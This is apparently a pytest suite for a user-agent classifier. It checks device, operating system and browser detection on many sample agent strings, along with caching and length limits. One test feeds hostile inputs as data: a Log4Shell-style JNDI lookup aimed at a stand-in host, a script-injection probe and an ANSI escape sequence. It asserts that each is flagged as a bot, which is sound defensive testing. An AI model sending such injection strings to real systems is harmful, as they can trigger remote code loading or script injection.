"""Covers edge.classify.user_agent with devices and vocabulary: what people's agents say, and the memory of agents.
Which agents are programs: test_bots.py."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from edge.classify.devices import DeviceTable
from edge.classify.signals import AgentVerdict
from edge.classify.user_agent import LONGEST_AGENT, UserAgents
from edge.classify.vocabulary import LONGEST_NAME, browser_name, system_name

KHTML = "AppleWebKit/537.36 (KHTML, like Gecko)"
APPLE = "AppleWebKit/605.1.15 (KHTML, like Gecko)"

PEOPLE = [
    # agent, device, system and version, browser and version
    (f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) {KHTML} Chrome/142.0.0.0 Safari/537.36",
     "desktop", "Windows", "10", "Chrome", "142.0"),
    (f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) {KHTML} Chrome/142.0.0.0 Safari/537.36",
     "desktop", "macOS", "10.15", "Chrome", "142.0"),
    (f"Mozilla/5.0 (X11; Linux x86_64) {KHTML} Chrome/142.0.0.0 Safari/537.36",
     "desktop", "Linux", "", "Chrome", "142.0"),
    (f"Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) {KHTML} Chrome/142.0.0.0 Safari/537.36",
     "desktop", "ChromeOS", "14541.0", "Chrome", "142.0"),
    (f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) {KHTML} Chrome/142.0.0.0 Safari/537.36 Edg/142.0.0.0",
     "desktop", "Windows", "10", "Edge", "142.0"),
    (f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) {KHTML} Chrome/140.0.0.0 Safari/537.36 OPR/124.0.0.0",
     "desktop", "Windows", "10", "Opera", "124.0"),
    (f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) {KHTML} Chrome/140.0.0.0 YaBrowser/25.10.0.0 Safari/537.36",
     "desktop", "Windows", "10", "Yandex Browser", "25.10"),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:145.0) Gecko/20100101 Firefox/145.0",
     "desktop", "Windows", "10", "Firefox", "145.0"),
    ("Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0",
     "desktop", "Linux", "", "Firefox", "145.0"),
    ("Mozilla/5.0 (X11; FreeBSD amd64; rv:140.0) Gecko/20100101 Firefox/140.0",
     "desktop", "BSD", "", "Firefox", "140.0"),
    (f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) {APPLE} Version/26.1 Safari/605.1.15",
     "desktop", "macOS", "10.15", "Safari", "26.1"),
    ("Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko",
     "desktop", "Windows", "7", "Internet Explorer", "11.0"),
    (f"Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) {APPLE} Version/18.6 Mobile/15E148 Safari/604.1",
     "mobile", "iOS", "18.6", "Safari", "18.6"),
    (f"Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) {APPLE} CriOS/142.0.7444.77 Mobile/15E148 Safari/604.1",
     "mobile", "iOS", "18.6", "Chrome", "142.0"),
    (f"Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) {APPLE} FxiOS/145.0 Mobile/15E148 Safari/605.1.15",
     "mobile", "iOS", "18.6", "Firefox", "145.0"),
    (f"Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) {APPLE} Mobile/15E148",
     "mobile", "iOS", "18.6", "iOS WebView", ""),
    (f"Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) {APPLE} Mobile/22G86 Instagram 390.0.0.28.85 "
     "(iPhone15,2; iOS 18_6; en_US; en; scale=3.00; 1179x2556; 1)",
     "mobile", "iOS", "18.6", "Instagram", "390.0"),
    (f"Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) {APPLE} Mobile/15E148 "
     "[FBAN/FBIOS;FBAV/530.0.0.40.73;FBBV/1;FBDV/iPhone15,2;FBMD/iPhone;FBSN/iOS;FBSV/18.6]",
     "mobile", "iOS", "18.6", "Facebook", "530.0"),
    (f"Mozilla/5.0 (Linux; Android 10; K) {KHTML} Chrome/142.0.0.0 Mobile Safari/537.36",
     "mobile", "Android", "10", "Chrome", "142.0"),
    (f"Mozilla/5.0 (Linux; Android 14; SM-S918B Build/UP1A.231005.007; wv) {KHTML} Version/4.0 "
     "Chrome/142.0.0.0 Mobile Safari/537.36",
     "mobile", "Android", "14", "Android WebView", "142.0"),
    (f"Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S918B) {KHTML} SamsungBrowser/28.0 Chrome/130.0.0.0 "
     "Mobile Safari/537.36",
     "mobile", "Android", "14", "Samsung Internet", "28.0"),
    ("Mozilla/5.0 (Android 15; Mobile; rv:145.0) Gecko/145.0 Firefox/145.0",
     "mobile", "Android", "15", "Firefox", "145.0"),
    (f"Mozilla/5.0 (Linux; U; Android 13; en-US; CPH2239) {KHTML} Version/4.0 Chrome/100.0.4896.58 "
     "UCBrowser/13.8.5.1325 Mobile Safari/537.36",
     "mobile", "Android", "13", "UC Browser", "13.8"),
    (f"Mozilla/5.0 (Linux; Android 12; ANA-NX9) {KHTML} Chrome/114.0.5735.196 HuaweiBrowser/15.0.9.300 "
     "Mobile Safari/537.36",
     "mobile", "Android", "12", "Huawei Browser", "15.0"),
    (f"Mozilla/5.0 (Linux; Android 13; CUBOT X70) {KHTML} Chrome/142.0.0.0 Mobile Safari/537.36",
     "mobile", "Android", "13", "Chrome", "142.0"),
    ("Opera/9.80 (J2ME/MIDP; Opera Mini/7.1.32052/37.5569; U; en) Presto/2.12.423 Version/12.16",
     "mobile", "Other", "", "Opera Mini", "7.1"),
    ("Mozilla/5.0 (Mobile; Nokia_8110_4G; rv:48.0) Gecko/48.0 Firefox/48.0 KAIOS/2.5.2",
     "mobile", "KaiOS", "2.5", "Firefox", "48.0"),
    ("Mozilla/5.0 (compatible; MSIE 10.0; Windows Phone 8.0; Trident/6.0; IEMobile/10.0; ARM; Touch; NOKIA; Lumia 920)",
     "mobile", "Windows Phone", "8.0", "Internet Explorer", "10.0"),
    (f"Mozilla/5.0 (iPad; CPU OS 18_6 like Mac OS X) {APPLE} Version/18.6 Mobile/15E148 Safari/604.1",
     "tablet", "iOS", "18.6", "Safari", "18.6"),
    (f"Mozilla/5.0 (Linux; Android 14; SM-X710) {KHTML} Chrome/142.0.0.0 Safari/537.36",
     "tablet", "Android", "14", "Chrome", "142.0"),
    (f"Mozilla/5.0 (Linux; Android 11; KFTRWI) {KHTML} Silk/140.1.1 like Chrome/140.0.7339.51 Safari/537.36",
     "tablet", "Android", "11", "Silk", "140.1"),
    ("Mozilla/5.0 (Android 13; Tablet; rv:145.0) Gecko/145.0 Firefox/145.0",
     "tablet", "Android", "13", "Firefox", "145.0"),
    (f"Mozilla/5.0 (SMART-TV; LINUX; Tizen 7.0) {KHTML} 94.0.4606.31/7.0 TV Safari/537.36",
     "tv", "Tizen", "7.0", None, None),
    (f"Mozilla/5.0 (Web0S; Linux/SmartTV) {KHTML} Chrome/108.0.5359.211 Safari/537.36 WebAppManager",
     "tv", "webOS", None, None, None),
    (f"Mozilla/5.0 (Linux; Android 9; AFTS) {KHTML} Chrome/120.0.0.0 Safari/537.36",
     "tv", "Android", "9", "Chrome", "120.0"),
    (f"Mozilla/5.0 (Linux; Android 12; BRAVIA 4K VH2) {KHTML} Chrome/120.0.0.0 Safari/537.36",
     "tv", "Android", "12", "Chrome", "120.0"),
    ("Roku/DVP-12.5 (12.5.0.4178-88)",
     "tv", "Roku OS", None, None, None),
    (f"Mozilla/5.0 (PlayStation; PlayStation 5/6.00) {APPLE} Version/15.4 Safari/605.1.15",
     "console", "PlayStation", None, None, None),
    (f"Mozilla/5.0 (Nintendo Switch; WifiWebAuthApplet) {APPLE} NF/6.0.3.25.0 NintendoBrowser/5.1.0.32061",
     "console", "Nintendo", None, None, None),
    (f"Mozilla/5.0 (Windows NT 10.0; Win64; x64; Xbox; Xbox One) {KHTML} Chrome/130.0.0.0 Safari/537.36 Edg/130.0.0.0",
     "console", None, None, "Edge", "130.0"),
    (f"Mozilla/5.0 (Linux; Android 13; SM-R930) {KHTML} SamsungBrowser/22.0 Chrome/111.0.0.0 Mobile Safari/537.36",
     "wearable", "Android", "13", "Samsung Internet", "22.0"),
    (f"Mozilla/5.0 (X11; GNU/Linux) {KHTML} Chrome/136.0.0.0 Safari/537.36 Tesla/2025.20.6-ab12cd34ef",
     "car", "Linux", "", None, None),
]  # fmt: skip


@pytest.mark.parametrize(
    ("agent", "device", "os", "os_version", "browser", "browser_version"), PEOPLE, ids=[row[0][:90] for row in PEOPLE]
)
def test_agent_of_a_person(
    user_agents: UserAgents,
    agent: str,
    device: str,
    os: str | None,
    os_version: str | None,
    browser: str | None,
    browser_version: str | None,
) -> None:
    """None in the table: not promised."""
    verdict = user_agents.verdict(agent)
    assert (verdict.is_bot, verdict.bot_kind, verdict.bot_name) == (False, "", "")
    assert verdict.device == device
    assert os in (None, verdict.os)
    assert os_version in (None, verdict.os_version)
    assert browser in (None, verdict.browser)
    assert browser_version in (None, verdict.browser_version)


def test_device_of_an_agent_that_names_none_is_other() -> None:
    assert DeviceTable().device("something entirely else") == "other"


def test_bot_keeps_the_system_it_names_but_has_neither_device_nor_browser(user_agents: UserAgents) -> None:
    verdict = user_agents.verdict(
        f"Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) {KHTML} Chrome/142.0.0.0 Mobile Safari/537.36 "
        "(compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
    )
    assert (verdict.device, verdict.os, verdict.browser, verdict.browser_version) == ("bot", "Android", "Other", "")


def test_names_are_never_longer_than_a_report_shows() -> None:
    assert browser_name("x" * 500) == system_name("x" * 500) == "x" * LONGEST_NAME
    assert browser_name(None) == system_name("") == "Other"


def test_blanks_around_an_agent_do_not_matter(user_agents: UserAgents) -> None:
    agent = PEOPLE[0][0]
    assert user_agents.verdict(f"  {agent}\t") == user_agents.verdict(agent)


def test_only_the_first_kilobyte_is_looked_at(user_agents: UserAgents) -> None:
    agent = PEOPLE[0][0].ljust(LONGEST_AGENT, "x")
    assert not user_agents.verdict(agent + " Googlebot/2.1").is_bot
    assert user_agents.verdict(agent[: LONGEST_AGENT - 20] + " Googlebot/2.1 ").is_bot


def test_remembered_verdict_is_the_same_object() -> None:
    user_agents = UserAgents(remembered=4)
    first = user_agents.verdict(PEOPLE[0][0])
    assert user_agents.verdict(PEOPLE[0][0]) is first


def test_flood_of_new_agents_is_forgotten_again() -> None:
    user_agents = UserAgents(remembered=8)
    for number in range(100):
        user_agents.verdict(f"{PEOPLE[0][0]} App/{number}")
    assert len(user_agents) <= 8


def test_very_long_agents_are_judged_but_not_remembered() -> None:
    user_agents = UserAgents(remembered=8)
    user_agents.verdict(PEOPLE[0][0].ljust(2000, "x"))
    assert len(user_agents) == 0


@pytest.mark.parametrize(
    "agent", ["\x1b[31mred\x1b[0m text here", "${jndi:ldap://x.example/a}", "<script>alert(1)</script>"]
)
def test_hostile_agents_have_a_verdict(user_agents: UserAgents, agent: str) -> None:
    assert user_agents.verdict(agent).is_bot


@given(st.text(max_size=1100))
def test_every_text_has_a_verdict(user_agents: UserAgents, agent: str) -> None:
    verdict = user_agents.verdict(agent)
    assert isinstance(verdict, AgentVerdict)
    assert bool(verdict.bot_kind) == verdict.is_bot == (verdict.device == "bot")
